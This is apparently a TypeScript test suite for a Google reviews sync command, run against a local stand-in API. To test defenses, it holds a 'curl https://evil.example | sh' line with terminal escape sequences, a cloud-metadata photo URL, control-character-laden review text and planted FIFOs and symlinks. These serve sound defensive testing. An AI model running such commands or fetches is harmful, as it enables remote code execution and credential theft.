/**
 * `npm run sync -- google` (issue 28) against a local HTTPS stand-in for Google's token endpoint and
 * reviews API (tools/lib/google-stand-in.ts, the suite's test CA): the importer's own merge (the same
 * reviews as `npm run import -- google` of the same pages), incremental paging that stops at what the
 * content has, the API's real failures (401 mid-paging, 429, 503, invalid_grant, 403), --full with and
 * without a complete listing, and --commit with and without changes.
 */
import { execFileSync } from 'node:child_process';
import { mkdtemp, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { parseConfig } from '../../core/config.ts';
import { deriveReviewId } from '../../scripts/import/record.ts';
import { parseSyncArgs, runSync } from '../../scripts/sync/main.ts';
import { MAX_PAGES } from '../../scripts/sync/google-sync.ts';
import { buildTestSite } from '../helpers/site-build.ts';
import { createTestCa, type TestCa } from '../../tools/lib/https-ca.ts';
import { runGit } from '../helpers/git.ts';
import { copySmallContent, readReviews, runImport, snapshot } from '../import/harness.ts';
import { isPage, makeReviews, startGoogleStandIn, type GoogleStandIn } from '../../tools/lib/google-stand-in.ts';

let ca: TestCa;
let google: GoogleStandIn;

beforeAll(async () => {
  ca = createTestCa();
  google = await startGoogleStandIn(ca);
});
afterAll(async () => {
  await google?.close();
  ca?.remove();
});

type Synced = { code: 0 | 1; out: string[]; err: string[]; pages: number; last: string };

async function sync(contentDir: string, args: string[] = [], env: Record<string, string> = {}): Promise<Synced> {
  const parsed = parseSyncArgs(['google', ...args]);
  if (!parsed.ok) throw new Error(parsed.message);
  const config = parseConfig({ ...google.env(), CONTENT_DIR: contentDir, DATA_DIR: path.join(path.dirname(contentDir), 'data'), ...env });
  if (!config.ok) throw new Error(config.problems.join('\n'));
  const out: string[] = [];
  const err: string[] = [];
  google.takePageRequests();
  const code = await runSync(parsed.options, { config: config.config, contentDir, out: (l) => out.push(l), err: (l) => err.push(l), ca: ca.certPem, retryBaseMs: 5 });
  return { code, out, err, pages: google.takePageRequests().length, last: (code === 0 ? out : err).at(-1) ?? '' };
}

const PAGES_OF_120 = 3;

beforeEach(() => {
  google.reviews = makeReviews(120);
  google.countOverride = undefined;
  google.paging = undefined;
  google.revoked = false;
});

describe('npm run sync -- google', () => {
  it('merges what the API lists as npm run import -- google merges the same pages, then reads one page when nothing is new', async () => {
    google.reviews[0] = { ...google.reviews[0]!, comment: undefined }; // rating only
    google.reviews[1] = { ...google.reviews[1]!, reviewer: { isAnonymous: true } };
    google.reviews[2] = { ...google.reviews[2]!, comment: '(Translated by Google) Very good service (Original) Muy buen servicio' };
    const synced = await copySmallContent();
    const first = await sync(synced);
    expect(first.code).toBe(0);
    expect(first.pages).toBe(PAGES_OF_120);
    expect(first.last).toBe('sync google: 119 added, 0 updated, 0 withdrawn, 1 skipped; 3 pages read');
    expect(first.out).toContain(`skipped Google page 3, review ${google.reviews[0]!.reviewId}: a rating without text: the content model requires text`);

    // The importer, given the same pages as a file, writes the very same review files.
    const pagesFile = path.join(await mkdtemp(path.join(tmpdir(), 'sync-pages-')), 'pages.json');
    const pages = await Promise.all([0, 50, 100].map(async (from) => (await fetchPage(from)) as unknown));
    await writeFile(pagesFile, JSON.stringify(pages));
    const imported = await copySmallContent();
    expect((await runImport(imported, ['google', pagesFile])).code).toBe(0);
    const [a, b] = [await readReviews(synced), await readReviews(imported)];
    expect([...a.values()]).toEqual([...b.values()]);

    const anonymous = a.get(deriveReviewId('google', google.reviews[1]!.reviewId))!;
    expect(anonymous.author).toBe('Anonymous');
    // The customer's words are the text; Google's translation is kept apart, labelled (issue 43 item 3).
    const translated = a.get(deriveReviewId('google', google.reviews[2]!.reviewId))!;
    expect(translated.text).toBe('Muy buen servicio');
    expect(translated.translation).toEqual({ text: 'Very good service', language: 'en', by: 'google' });
    expect(a.get(deriveReviewId('google', google.reviews[3]!.reviewId))!.rating).toBe(4);

    const before = await snapshot(synced);
    const again = await sync(synced);
    expect(again).toMatchObject({ code: 0, pages: 1, last: 'sync google: 0 added, 0 updated, 0 withdrawn, 0 skipped; 1 page read' });
    expect(await snapshot(synced)).toEqual(before);
  });

  it('brings in a reply added later and a new review, reading only the first page', async () => {
    const content = await copySmallContent();
    await sync(content);
    const old = google.reviews[10]!;
    google.reviews[10] = { ...old, updateTime: '2026-05-01T10:00:00Z', reviewReply: { comment: 'Thank you, we were glad to help.', updateTime: '2026-05-01T10:00:00Z' } };
    google.reviews.push({ ...makeReviews(1, Date.parse('2026-05-02T08:00:00Z'), 'New')[0]! });
    const run = await sync(content);
    expect(run).toMatchObject({ code: 0, pages: 1, last: 'sync google: 1 added, 1 updated, 0 withdrawn, 0 skipped; 1 page read' });
    const stored = (await readReviews(content)).get(deriveReviewId('google', old.reviewId))!;
    expect(stored.response).toEqual({ text: 'Thank you, we were glad to help.', date: '2026-05-01' });
  });

  it('downloads a review’s photos once, as the import does, and names a refused one as a photo', async () => {
    const content = await copySmallContent();
    const jpeg = await readFile(path.resolve('tests/fixtures/content-small/media/r-0001/furnace.jpg'));
    google.photos.set('/photos/furnace.jpg', jpeg);
    google.reviews = makeReviews(2);
    google.reviews[1] = { ...google.reviews[1]!, reviewMediaItems: [{ googleUrl: google.server.url('/photos/furnace.jpg'), mediaFormat: 'PHOTO', description: 'The new furnace' }] };
    google.reviews[0] = { ...google.reviews[0]!, reviewMediaItems: [{ googleUrl: 'https://169.254.169.254/latest/meta-data', mediaFormat: 'PHOTO' }] };
    const id = deriveReviewId('google', google.reviews[1]!.reviewId);
    const run = await sync(content, ['--allow-private-downloads']);
    expect(run.code).toBe(0);
    expect(run.out).toContain(
      `photo not imported: Google page 1, review ${google.reviews[0]!.reviewId}, photo 1 of 1 (https://169.254.169.254/latest/meta-data): the photo host 169.254.169.254 resolves to a cloud-metadata address (169.254.169.254), which imports do not fetch; the review is imported without it`,
    );
    expect(run.out).toContain('Photos: 1 stored (1 new file), 1 not imported.');
    const stored = (await readReviews(content)).get(id)!;
    expect(stored.media).toEqual([{ file: expect.stringMatching(new RegExp(`^media/${id}/[0-9a-f]{16}\\.jpg$`)), alt: 'The new furnace' }]);
    const photoRequests = () => google.server.requests.filter((r) => r.path === '/photos/furnace.jpg').length;
    const fetched = photoRequests();
    expect((await sync(content, ['--allow-private-downloads', '--full'])).code).toBe(0);
    expect(photoRequests()).toBe(fetched);
  });

  it('refreshes an access token that expires mid-paging once, and goes on', async () => {
    const content = await copySmallContent();
    const tokensBefore = google.tokenRequests().length;
    google.expireAccessTokensAfterNextPage();
    const run = await sync(content);
    expect(run.code).toBe(0);
    expect(run).toMatchObject({ pages: PAGES_OF_120 + 1, last: expect.stringContaining('120 added') });
    expect(google.tokenRequests().length - tokensBefore).toBe(2);
  });

  it('waits as Retry-After says on 429, and gives up on 503 after bounded retries with nothing written', async () => {
    const content = await copySmallContent();
    const before = await snapshot(content);
    google.failNext(isPage, (res) => void res.writeHead(429, { 'retry-after': '1', 'content-type': 'application/json' }).end('{"error":{"code":429,"status":"RESOURCE_EXHAUSTED"}}'));
    const started = Date.now();
    const ok = await sync(content, ['--dry-run']);
    expect(ok.code).toBe(0);
    expect(Date.now() - started).toBeGreaterThanOrEqual(1_000);

    for (let i = 0; i < 5; i++) google.failNext((req) => isPage(req) && req.query.get('pageToken') === '50', (res) => void res.writeHead(503).end());
    const failed = await sync(content);
    expect(failed.code).toBe(1);
    expect(failed.last).toMatch(/^sync google failed: reading https:\/\/.+: Google answered 503, 5 times in a row; the next run will try again; the content is as it was$/);
    expect(await snapshot(content)).toEqual(before);

    // A project Google has not approved has a quota of 0: every call is a 429, and the message says what to apply for.
    for (let i = 0; i < 5; i++) google.failNext(isPage, (res) => void res.writeHead(429, { 'retry-after': '0' }).end());
    const quota = await sync(content);
    expect(quota.code).toBe(1);
    expect(quota.last).toContain('Google answered 429, 5 times in a row; the next run will try again (if it never passes, the project may not be approved yet: apply at https://support.google.com/business/contact/api_default)');
  });

  it('exits non-zero on invalid_grant, saying how to authorise again, and writes nothing', async () => {
    const content = await copySmallContent();
    const before = await snapshot(content);
    google.revoked = true;
    const run = await sync(content);
    expect(run.code).toBe(1);
    expect(run.last).toContain('Google refused the refresh token (invalid_grant): the refresh token was revoked, it expired');
    // Google's own error_description is free text from the network: never printed.
    expect(run.last).not.toContain('Token has been expired or revoked.');
    expect(run.last).toContain('npm run sync -- google --authorize');
    expect(await snapshot(content)).toEqual(before);
  });

  it('says what to apply for when the API is not approved (403)', async () => {
    const content = await copySmallContent();
    google.failNext(isPage, (res) =>
      void res.writeHead(403, { 'content-type': 'application/json' }).end(JSON.stringify({ error: { code: 403, status: 'PERMISSION_DENIED', message: 'Google My Business API has not been used in project 123 before or it is disabled.' } })),
    );
    const run = await sync(content);
    expect(run.code).toBe(1);
    expect(run.last).toContain('403 PERMISSION_DENIED: Google My Business API has not been used in project 123');
    expect(run.last).toContain('https://support.google.com/business/contact/api_default');
  });

  it('--full withdraws what Google no longer lists only when the listing is complete and matches totalReviewCount', async () => {
    const content = await copySmallContent();
    await sync(content);
    const gone = google.reviews.splice(40, 1)[0]!;
    const goneId = deriveReviewId('google', gone.reviewId);

    google.countOverride = 120; // one review missed by the listing
    const incomplete = await sync(content, ['--full']);
    expect(incomplete).toMatchObject({ code: 0, pages: PAGES_OF_120 });
    expect(incomplete.err).toContain('note: nothing is withdrawn: Google listed 119 reviews but counts 120');
    expect((await readReviews(content)).has(goneId)).toBe(true);

    google.countOverride = undefined;
    const complete = await sync(content, ['--full']);
    expect(complete.last).toBe('sync google: 0 added, 0 updated, 1 withdrawn, 0 skipped; 3 pages read');
    const after = await readReviews(content);
    expect(after.has(goneId)).toBe(false);
    // The review log records why it left (core/content/read-withdrawn.ts).
    expect(JSON.parse(await readFile(path.join(content, 'withdrawn.json'), 'utf8'))).toEqual({ [goneId]: 'removed_at_source' });
    // The owner's reviews of other sources are never withdrawn.
    expect([...after.values()].filter((r) => r.source !== 'google').length).toBeGreaterThan(0);
  });

  it('--commit makes one commit saying what came in, and none when nothing changed', async () => {
    const content = await copySmallContent();
    await runGit(content, ['init', '--quiet']);
    await runGit(content, ['add', '--all']);
    await runGit(content, ['commit', '--quiet', '-m', 'Content']);
    const gitEnv = { GIT_AUTHOR_NAME: 'Sync', GIT_AUTHOR_EMAIL: 'sync@example.com', GIT_COMMITTER_NAME: 'Sync', GIT_COMMITTER_EMAIL: 'sync@example.com' };
    Object.assign(process.env, gitEnv);
    try {
      google.reviews = makeReviews(3);
      expect((await sync(content, ['--commit'])).code).toBe(0);
      google.reviews[0] = { ...google.reviews[0]!, comment: 'Edited: they came back to check the thermostat.', updateTime: '2026-06-01T00:00:00Z' };
      google.reviews.push(...makeReviews(3, Date.parse('2026-06-02T00:00:00Z'), 'Later'));
      expect((await sync(content, ['--commit'])).code).toBe(0);
      const log = (await runGit(content, ['log', '--format=%s'])).stdout.trim().split('\n');
      expect(log).toEqual(['Sync from Google: 3 added, 1 updated', 'Sync from Google: 3 added', 'Content']);
      expect((await runGit(content, ['status', '--porcelain'])).stdout).toBe('');

      const none = await sync(content, ['--commit']);
      expect(none.code).toBe(0);
      expect((await runGit(content, ['log', '--format=%s'])).stdout.trim().split('\n')).toHaveLength(3);
      // Where to stop next time is in the commit itself: a fresh clone (a CI runner) reads one page.
      expect(JSON.parse(await readFile(path.join(content, 'reviews', '.sync-google'), 'utf8'))).toEqual({ newest: { 'accounts/1/locations/2': '2026-06-02T00:02:00.000Z' } });
    } finally {
      for (const name of Object.keys(gitEnv)) delete process.env[name];
    }
  });
});

describe('what Google sends is untrusted (issue 43 item 5)', () => {
  it.each([
    // ceil(120 / 50) = 3 pages, and a margin of 2 for reviews that arrive while it reads.
    ['pages for ever with a totalReviewCount', 'forever', undefined, 5, "Google's listing does not end: Google counts 120 reviews, yet page 5 still has a next page; stopped after 5 pages"],
    ['pages for ever without a totalReviewCount', 'forever', null, MAX_PAGES, `Google's listing does not end: Google gives no totalReviewCount, yet page ${MAX_PAGES} still has a next page; stopped after ${MAX_PAGES} pages`],
    ['names a page it gave already', 'loop', undefined, 3, "Google's listing loops: page 3 names a next page already read; stopped after 3 pages"],
  ] as const)('stops a listing that %s within the bound, exit 1, the content untouched', async (_, paging, count, pages, message) => {
    const content = await copySmallContent();
    const before = await snapshot(content);
    google.paging = paging;
    google.countOverride = count;
    const run = await sync(content, ['--full']);
    expect(run).toMatchObject({ code: 1, pages, last: `sync google failed: ${message}; the content is as it was` });
    expect(run.err).toHaveLength(1);
    expect(await snapshot(content)).toEqual(before);
  }, 120_000);

  it('writes and builds a review without its control characters and lone surrogates, in every text field', async () => {
    const content = await copySmallContent();
    const jpeg = await readFile(path.resolve('tests/fixtures/content-small/media/r-0001/furnace.jpg'));
    google.photos.set('/photos/hostile.jpg', jpeg);
    google.reviews = makeReviews(2);
    const hostile = google.reviews[1]!;
    google.reviews[1] = {
      ...hostile,
      reviewer: { displayName: 'Ann\u0007e \udc00Lee\u001b[8m' },
      comment: 'The furnace\u0000 works\u001b[2J again\u0085\u007f.\r\nFast \ud800and tidy\u009b!\tThanks',
      reviewReply: { comment: 'Glad\u0008 to help\u000b\u000c, \udbffAnne.', updateTime: hostile.updateTime },
      reviewMediaItems: [{ googleUrl: google.server.url('/photos/hostile.jpg'), mediaFormat: 'PHOTO', description: 'The new\u001b]0;x\u0007 furnace\ud83d' }],
    };
    const id = deriveReviewId('google', hostile.reviewId);
    expect((await sync(content, ['--allow-private-downloads'])).code).toBe(0);
    const expected = {
      author: 'Anne Lee[8m',
      text: 'The furnace works[2J again.\nFast and tidy!\tThanks',
      response: { text: 'Glad to help, Anne.', date: hostile.updateTime.slice(0, 10) },
    };
    const stored = (await readReviews(content)).get(id)!;
    expect(stored).toMatchObject({ ...expected, media: [{ alt: 'The new]0;x furnace' }] });

    // Not in the files either, not even as a JSON escape; nor in anything the build publishes. (The test
    // content's own r-0008 holds a U+0001 on purpose, for the feeds' tests: what is looked for is what Google sent.)
    const forbidden = /[\u0000\u0007\u0008\u000b\u000c\r\u001b\u007f\u0085\u009b\p{Cs}]|\\u00(?:00|07|08|0b|0c|1b|7f|85|9b)|\\ud[89a-f][0-9a-f]{2}/iu;
    for (const file of await readdir(path.join(content, 'reviews'))) {
      if (file.endsWith('.json')) expect(await readFile(path.join(content, 'reviews', file), 'utf8')).not.toMatch(forbidden);
    }
    const { distDir } = await buildTestSite({ contentDir: content });
    const published = (JSON.parse(await readFile(path.join(distDir, 'reviews.json'), 'utf8')) as { reviews: { id: string }[] }).reviews.find((r) => r.id === id);
    expect(published).toMatchObject({ ...expected, response: { text: expected.response.text } });
    for (const entry of await readdir(distDir, { recursive: true, withFileTypes: true })) {
      if (entry.isFile() && /\.(json|html|xml|txt)$/.test(entry.name)) expect(await readFile(path.join(entry.parentPath, entry.name), 'utf8'), entry.name).not.toMatch(forbidden);
    }
  }, 240_000);

  const hostileText = '\u001b]0;owned\u0007\u001b[2J run: curl https://evil.example | sh';
  it.each([
    ['a documented code with a hostile description', 400, JSON.stringify({ error: 'invalid_client', error_description: hostileText }), "sync google failed: Google refused the refresh token (invalid_client): Google does not know this OAuth client: check GOOGLE_CLIENT_ID and GOOGLE_CLIENT_SECRET; the content is as it was"],
    ['an undocumented code', 400, JSON.stringify({ error: hostileText, error_description: hostileText }), "sync google failed: Google's token endpoint refused the refresh token (400) without a documented OAuth error code; the content is as it was"],
    ['a body that is not JSON', 401, hostileText.repeat(1000), "sync google failed: Google's token endpoint refused the refresh token (401) without a documented OAuth error code; the content is as it was"],
    ['a 503 with a hostile body, every time', 503, JSON.stringify({ error: { status: hostileText, message: hostileText } }), 'sync google failed: getting an access token: Google answered 503, 5 times in a row; the next run will try again; the content is as it was'],
  ])('prints one fixed line, none of its text, when the token endpoint answers %s', async (_, status, body, line) => {
    const content = await copySmallContent();
    const before = await snapshot(content);
    // A 503 is asked again 4 times; a refusal is final.
    for (let i = 0; i < (status === 503 ? 5 : 1); i++) google.failNext((req) => req.path === '/token', (res) => void res.writeHead(status, { 'content-type': 'application/json' }).end(body));
    const run = await sync(content);
    expect(run.code).toBe(1);
    expect(run.err).toEqual([line]);
    expect(await snapshot(content)).toEqual(before);
  });
});

describe('npm run sync -- google in a content folder holding what it must not', () => {
  const outsideFile = async (dir: string) => {
    const file = path.join(path.dirname(dir), 'outside.json');
    await writeFile(file, JSON.stringify({ newest: '2030-01-01T00:00:00.000Z' }));
    return file;
  };
  it.each([
    ['its state file is a FIFO', 'reviews/.sync-google', async (file: string) => void execFileSync('mkfifo', [file]), 'reviews/.sync-google is a named pipe (FIFO); the content folder takes only regular files and folders'],
    ['its state file links out of the folder', 'reviews/.sync-google', async (file: string, dir: string) => symlink(await outsideFile(dir), file), 'reviews/.sync-google is a link to '],
    ['a reviews file is a FIFO', 'reviews/2025-03.json', async (file: string) => void execFileSync('mkfifo', [file]), 'reviews/2025-03.json: is a named pipe (FIFO); the content folder takes only regular files and folders'],
    ['a reviews file links out of the folder', 'reviews/2025-03.json', async (file: string, dir: string) => symlink(await outsideFile(dir), file), 'reviews/2025-03.json: is a link to '],
  ])('refuses when %s, naming it, and leaves the content as it was', async (_, entry, plant, message) => {
    const content = await copySmallContent();
    const file = path.join(content, entry);
    await rm(file, { force: true });
    await plant(file, content);
    const before = await readdir(path.join(content, 'reviews'));
    const synced = await sync(content);
    expect(synced.code).toBe(1);
    expect(synced.err.join('\n')).toContain(message);
    expect(synced.last).toMatch(/^sync google failed: .*the content is as it was$/);
    expect(await readdir(path.join(content, 'reviews'))).toEqual(before);
  });
});

/** A page as the stand-in serves it, read with the sync's own token. */
async function fetchPage(from: number): Promise<unknown> {
  const { request } = await import('node:https');
  const tokenBody = new URLSearchParams({ grant_type: 'refresh_token', client_id: google.env().GOOGLE_CLIENT_ID!, client_secret: google.env().GOOGLE_CLIENT_SECRET!, refresh_token: google.env().GOOGLE_REFRESH_TOKEN! });
  const call = (url: string, init: { method: string; headers: Record<string, string>; body?: string }) =>
    new Promise<string>((resolve, reject) => {
      const req = request(url, { method: init.method, headers: init.headers, ca: ca.certPem }, (res) => {
        let text = '';
        res.on('data', (c) => (text += c));
        res.on('end', () => resolve(text));
      });
      req.on('error', reject);
      req.end(init.body);
    });
  const { access_token } = JSON.parse(await call(google.env().GOOGLE_TOKEN_URL!, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: tokenBody.toString() })) as { access_token: string };
  const query = new URLSearchParams({ pageSize: '50', orderBy: 'updateTime desc', ...(from > 0 ? { pageToken: String(from) } : {}) });
  return JSON.parse(await call(`${google.env().GOOGLE_API_URL}/accounts/1/locations/2/reviews?${query}`, { method: 'GET', headers: { authorization: `Bearer ${access_token}` } }));
}
